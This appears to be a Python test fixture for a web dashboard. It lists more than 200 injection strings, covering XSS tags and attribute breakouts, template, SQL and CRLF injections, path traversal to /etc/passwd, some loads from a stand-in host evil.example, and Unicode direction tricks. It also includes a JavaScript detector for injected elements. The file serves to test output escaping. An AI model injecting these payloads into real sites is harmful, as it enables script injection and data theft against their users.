"""Texts that would do something if a page took them for anything but text: 200 and more, each once."""

# What runs if an element or an attribute can be begun. `hit` is a function that no page has.
ELEMENTS = [
    "<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hit()>", "<img/src=x/onerror=hit()>", "<svg onload=hit()>", "<svg/onload=hit()//",
    "<body onload=hit()>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:hit()>", "<details open ontoggle=hit()>", "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>", "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>", "<marquee onstart=hit()>", "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>", "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;//evil.example'>",
    "<form action=//evil.example><button>Go</button></form>", "<a href=javascript:hit()>link</a>",
    "<a id=main name=main>", "<template><script>hit()</script></template>", "<dialog open>hit</dialog>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<!--<img src=x onerror=hit()>-->",
    "<![CDATA[<b>]]>", "<?xml version='1.0'?>", "<%= hit() %>", "<x contenteditable onblur=hit()>",
    "</title><script>hit()</script>", "</textarea><script>hit()</script>", "</pre><script>hit()</script>",
    "</script><script>hit()</script>", "</td></tr></table><h1>hit</h1>", "</main></body></html>",
    "</details></section><section id=hit>", "</code></span></a><b>hit</b>", "</option></select><b>hit</b>",
    "</style><b>hit</b>", "--><b>hit</b><!--", "]]><b>hit</b>", "<b", "<", ">", "<>",
    "< script>hit()</ script>", "<\tscript>hit()</script>", "<b\x00>hit", "\x00<script>hit()</script>",
    "<scr\x00ipt>hit()</scr\x00ipt>", "<scr<script>ipt>hit()</scr</script>ipt>",
]  # fmt: skip
# What leaves an attribute.
ATTRIBUTES = [
    '"><script>hit()</script>', "'><script>hit()</script>", '" onmouseover="hit()', "' onmouseover='hit()",
    '" autofocus onfocus="hit()" x="', "' autofocus onfocus='hit()' x='", "` onmouseover=hit() `",
    '" style="color:red', '" id="main', '" href="javascript:hit()', '"/><img src=x onerror=hit()>',
    "\" data-live id=\"runs", '" data-stream="//evil.example', '" data-submit="',
    '" formaction="//evil.example', "onmouseover=hit()", " onmouseover=hit() ", '"', "'", "`", '""', "''", "\\",
    '\\"', "\\'", "\\u0022 onmouseover=hit()", '"\\', '" http-equiv="refresh', '"><base href="//evil.example/',
    "x\" y=\"z", "=", "/", "//", "/>",
]  # fmt: skip
# References, templates, scripts and formats that are interpreted somewhere.
LANGUAGES = [
    "&lt;script&gt;hit()&lt;/script&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "&amp;lt;", "&", "&&", "&quot;",
    "&#0;", "&bogus;", "{{title}}", "{{{title}}}", "{{&title}}", "{{#shell}}{{/shell}}", "{{>layout}}",
    "{{<layout}}{{/layout}}", "{{! c }}", "{{=<% %>=}}", "{{", "}}", "{{$main}}{{/main}}", "{{shell.user}}",
    "{% hit %}", "${hit()}", "`${hit()}`", "#{hit()}", "$(hit)", "$HOME", "%s%s%n", "%00",
    "%3Cscript%3Ehit()%3C/script%3E", "%22%3E", "..%2f..%2fetc", "../../etc/passwd", "javascript:hit()",
    "JaVaScRiPt:hit()", "java\tscript:hit()", "java\nscript:hit()", " javascript:hit()",
    "javascript://%0ahit()", "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "vbscript:hit()", "//evil.example/x",
    "https://evil.example/", "\\\\evil.example\\x", "mailto:a@evil.example", "blob:x", '{"a": "b"}',
    '{"__proto__": {"x": 1}}', '"}', '"]', "}{", "[1, 2", "null", "true", "undefined", "NaN", "[object Object]",
    "'; DROP TABLE runs; --", "' OR '1'='1", "1; SELECT 1", "%' --", "_", "%", "\\%", "*", "?", "#",
    "?a=b&c=d#e", "a&b=c", "a\r\nSet-Cookie: x=y", "a\r\n\r\n<b>hit</b>", "a\nb", "a\rb", "\ttab\t",
    "data: hit\n\nevent: end\n\n", "event: line", "id: 1\nretry: 1", "line\u2028separator\u2029", "a\x0bb\x0cc",
    "a\x08b", "\x1b[31mred\x1b[0m", "\x7f", "\x85", "function hit(){}", "hit()", "constructor", "__proto__",
    "toString", "on", "onload", "style", "script",
]  # fmt: skip
# Marks, directions, invisible and long texts.
WRITINGS = [
    "<\u0301script>hit()</script>", '"\u0301 onmouseover="hit()', "'\u0301 onfocus='hit()", "&\u0301lt;",
    ">\u0301<b>", "`\u0301onload=hit()", "<\u200dscript>hit()</script>", '"\u200d><svg onload=hit()>',
    "<\ufe0fb>hit", "\u0301", "\u200d", "a\u0301" * 40, "e" + "\u0301" * 200, "\u202ereversed\u202c",
    "\u202e<script>hit()</script>", "\u2066isolated\u2069", "\u2067hit\u2069", "\u200f\u200e", "\ufeffmark",
    "a\u200bb", "a\u00adb", "\u00a0", "\u3000wide", "\ufffd", "\ufffe", "\uffff", "\ue000private",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1e9\U0001f1ea", "\U0001f3fd",
    "\U0001f600" * 60, "\U000e0041tag", "\U0010ffff", "٣٤٥", "שלום", "مرحبا <b>", "日本語<script>", "Ǆǆß İı", "ﬀ",
    "Ω≈ç√∫", "＜script＞hit()＜/script＞", "‹script›hit()‹/script›", "ʺ onmouseover=ʺhit()", "𝒽𝒾𝓉", "a" * 3_000,
    "<b>" * 800, "long" * 100 + " " + "word " * 200, "very-long-word-" * 60, "\n" * 100 + "end",
    "  leading and trailing  ",
]  # fmt: skip
TEXTS = ELEMENTS + ATTRIBUTES + LANGUAGES + WRITINGS

# Returns what on a page is not the dashboard's own: a script that evaluates to a list of texts.
INTRUDERS = """(base) => {
  const found = [];
  const once = {SCRIPT: 1, LINK: 2, META: 4, BASE: 0, STYLE: 0, IFRAME: 0, OBJECT: 0, EMBED: 0, IMG: 1, VIDEO: 0,
    AUDIO: 0, TEMPLATE: 0, MATH: 0, MARQUEE: 0, NOSCRIPT: 0, TEXTAREA: 9, DIALOG: 1, B: 0, MAIN: 1, H1: 1,
    TITLE: 1, X: 0};
  const counts = {};
  const ids = new Set();
  for (const element of document.querySelectorAll('*')) {
    if (element.namespaceURI !== 'http://www.w3.org/2000/svg') {
      counts[element.tagName] = (counts[element.tagName] ?? 0) + 1;
    }
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const isActive = ['style', 'srcdoc', 'formaction', 'autofocus', 'contenteditable', 'ping'].includes(name);
      if (isActive || name.startsWith('on')) {
        found.push(`attribute ${name} of ${element.tagName}`);
      }
      if (['href', 'src', 'action', 'data-stream', 'poster'].includes(name)) {
        const place = new URL(attribute.value, location.href);
        const isOwn = attribute.value.startsWith('#') || attribute.value.startsWith(base);
        if (!isOwn || place.origin !== location.origin) found.push(`${name} of ${element.tagName}: ${attribute.value}`);
      }
    }
    // A form's own property may be a field of that name.
    const id = element.getAttribute('id');
    if (id !== null) {
      if (ids.has(id)) found.push(`second id ${id}`);
      ids.add(id);
      if (!/^[a-z][a-z0-9_-]*$/i.test(id)) found.push(`id ${id}`);
    }
    if (!document.documentElement.contains(element)) found.push(`outside: ${element.tagName}`);
  }
  for (const [name, limit] of Object.entries(once)) {
    if ((counts[name] ?? 0) > limit) found.push(`${counts[name]} of ${name}`);
  }
  if ('hit' in window && !(window.hit instanceof Element)) found.push('hit is defined');
  const directions = /[\\u202a-\\u202e\\u2066-\\u2069]/;
  if (directions.test(document.body.innerText)) found.push('a character that turns the direction of text');
  return found;
}"""
